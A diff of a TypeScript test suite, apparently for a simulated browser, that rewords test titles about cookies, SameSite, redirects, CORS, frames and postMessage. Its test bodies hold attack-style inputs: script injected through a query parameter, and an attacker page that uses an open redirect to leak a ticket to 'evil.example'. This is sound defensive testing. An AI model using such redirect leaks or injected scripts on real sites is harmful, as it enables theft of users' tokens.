@@ -39,14 +39,14 @@ const names = (cookie = '') =>
 const ofKind = (events: WorldEvent[], kind: string) => events.filter((event) => event.kind === kind);
 
 describe('The cookie jar (RFC 6265bis)', () => {
-  it('takes what is allowed, keeps HttpOnly from scripts, and lets cookies end by the clock', () => {
+  it('stores allowed cookies, hides HttpOnly from scripts, and expires cookies by the clock', () => {
     const { browser, later } = open();
     browser.visit('/in');
-    const kept = browser
+    const stored = browser
       .cookies()
       .map(({ name }) => name)
       .sort();
-    expect(kept).toEqual(['__Host-x', 'cHttp', 'cLax', 'cNone', 'cPlain', 'cStrict', 'deep', 'short']);
+    expect(stored).toEqual(['__Host-x', 'cHttp', 'cLax', 'cNone', 'cPlain', 'cStrict', 'deep', 'short']);
     const { dialogs } = browser.visit(
       `/js?q=${encodeURIComponent('document.cookie = "mine=1; HttpOnly"; document.cookie = "cHttp=2"; alert(document.cookie)')}`,
     );
@@ -138,7 +138,7 @@ describe('The cookie jar (RFC 6265bis)', () => {
         ),
       ALL,
     ],
-  ])('SameSite: %s', (_name, work, expected) => {
+  ])('applies SameSite to %s', (_name, work, expected) => {
     const { browser, seen } = open();
     browser.visit('/in');
     work(browser);
@@ -246,7 +246,7 @@ describe('A redirect of the app', () => {
       (browser: Browser) =>
         browser.visitAttacker('<script>location = "https://app.test/go?to=//evil.example/c"</script>'),
     ],
-  ])('to another host takes along what stands in it: %s', (_name, lead) => {
+  ])('to another host discloses what its address holds: %s', (_name, lead) => {
     const { browser } = open();
     const { events } = lead(browser);
     const sent = { kind: 'outgoing', by: 'page', url: 'https://evil.example/c?ticket=7' };
@@ -254,7 +254,7 @@ describe('A redirect of the app', () => {
     const noted = browser.exchanges().flatMap((exchange) => exchange.events);
     expect(ofKind(noted, 'outgoing')).toMatchObject([sent]);
   });
-  it('within the app takes nothing anywhere', () => {
+  it('within the app discloses nothing', () => {
     const { browser } = open();
     expect(ofKind(browser.visit('/go?to=/saw').events, 'outgoing')).toEqual([]);
   });
@@ -299,7 +299,7 @@ describe('CORS', () => {
       ['OPTIONS', 'POST'],
     ],
     ['a simple POST is sent, and not read', read('', '{ method: "POST", body: "x" }'), 'refused', ['POST']],
-  ])('%s', (_name, html, expected, methods) => {
+  ])('decides that %s', (_name, html, expected, methods) => {
     const { browser, seen } = open();
     const { dialogs } = browser.visitAttacker(html);
     expect(dialogs.map(({ message }) => message)).toEqual([expected]);
@@ -326,7 +326,7 @@ describe('A frame of the app in a foreign page', () => {
 });
 
 describe('Windows', () => {
-  it('speak by messages, with the origin they come from', () => {
+  it('exchange messages, with the origin they come from', () => {
     const { browser } = open();
     const listen =
       'addEventListener("message", (e) => { alert(e.origin + " " + e.data.x); e.source.postMessage("back", e.origin) })';
@@ -347,7 +347,7 @@ describe('Windows', () => {
     expect(dialogs.map(({ message }) => message)).toEqual(['no']);
   });
 
-  it('of the same origin can', () => {
+  it('of the same origin can be read', () => {
     const { browser } = open();
     const { dialogs } = browser.visit(
       `/js?q=${encodeURIComponent('onload = () => { const f = document.createElement("iframe"); f.src = "/frame"; f.onload = () => alert(f.contentDocument.getElementById("p").textContent); document.body.append(f) }')}`,
